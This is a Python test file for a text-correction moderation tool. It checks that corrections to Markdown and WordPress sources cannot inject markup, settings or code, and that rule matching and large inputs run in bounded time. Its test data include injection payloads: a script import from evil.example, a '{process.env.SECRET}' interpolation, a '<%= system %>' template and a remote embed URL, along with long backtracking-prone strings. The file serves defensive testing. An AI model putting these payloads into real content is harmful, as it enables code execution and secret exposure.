"""Corrections and rules that an attacker wrote: text stays text, and matching takes bounded time."""

import pytest

from moderation.domain.source import correct
from moderation.domain.source.url_rules import InvalidRule, paths_for
from tests.support.sources import corrected

YAML = "---\ntitle: {}\n---\n\nтекст\n"


@pytest.mark.parametrize(
    ("source", "correction"),
    [
        (YAML.format("котрая"), "x\nlayout:\n  evil"),
        (YAML.format('"котрая"'), "x\nlayout: evil"),
        ("котрая река\n", "import evil from 'https://evil.example/x.js'"),
        ("котрая река\n", "{process.env.SECRET}"),
        ("котрая река\n", "<%= system %>"),
        ("котрая река\n", "# Заголовок"),
        ("котрая река\n", "1. пункт"),
        ("котрая река\n", "    код"),
        ("река котрая\n", "река\n\n# Заголовок"),
        ("река котрая\n", "\u2028- пункт"),
    ],
)
def test_a_correction_is_no_markup_setting_or_program_in_markdown(source, correction):
    assert corrected("markdown", source, "котрая", correction) == "not_editable"


def test_a_correction_embeds_nothing_in_wordpress():
    assert (
        corrected("wordpress", "река котрая", "котрая", "\n\nhttps://evil.example/embed\n\n")
        == "not_editable"
    )


def test_a_rule_with_names_that_have_no_border_is_refused():
    with pytest.raises(InvalidRule, match="between"):
        list(paths_for("/{a}{b}{c}{d}{e}/ → {a}.md", "https://news.example/a"))


def test_no_address_makes_a_rule_slow():
    rule = "/{y}-{m}-{d}-{slug}/ → {y}/{m}/{d}/{slug}.md"
    assert list(paths_for(rule, "https://news.example/2026-01-02-a-b/")) == ["2026/01/02/a-b.md"]
    assert list(paths_for(rule, "https://news.example/" + "-" * 2000 + "/x")) == []
    many = "-".join(f"{{n{number}}}" for number in range(9))
    assert list(paths_for(f"/{many}x → a.md", "https://news.example/" + "-" * 2000)) == []


@pytest.mark.parametrize(
    ("kind", "piece"),
    [("wordpress", piece) for piece in (" ", "\n", "\u200b", "<a ", '<a "', "<!", "<!--", "[a ")]
    + [("markdown", piece) for piece in (" ", "{{", "{%", "![", "![](", "[^", "`a``", "| ", "<!--")],
)
def test_no_source_takes_more_time_than_its_length(kind, piece):
    source = f"котрая река\n\n---{piece * (30_000 // len(piece))}x"
    assert corrected(kind, source, "котрая", "которая", suffix=" река") == source.replace("отр", "отор")


def test_runs_of_ticks_of_every_length_are_not_searched_to_the_end_of_their_line():
    runs = "a".join("`" * number for number in range(1, 200))
    source = f"котрая река {runs}a `{'x' * 3000} котрый`\n"
    assert corrected("markdown", source, "котрая", "которая", suffix=" река") == source.replace(
        "отра", "отора"
    )
    assert corrected("markdown", source, "котрый", "который", prefix="x" * 20 + " ") == source.replace(
        "отры", "оторы"
    ), "code is at most 2,000 characters long"


def test_a_long_source_is_not_folded_again_for_each_correction(monkeypatch):
    folded, fold = [], correct.plain_units
    monkeypatch.setattr(correct, "plain_units", lambda text: folded.append(len(text)) or fold(text))
    source = f"котрая река {'слово ' * 1000}"
    assert corrected("wordpress", source, "котрая", "которая", suffix=" река") == source.replace(
        "отра", "отора"
    )
    assert sum(folded) < 1000


def test_a_source_that_would_fill_the_memory_is_left_alone():
    source = "котрая река" + " слово" * 60_000
    assert corrected("wordpress", source, "котрая", "которая", suffix=" река") == "not_editable"
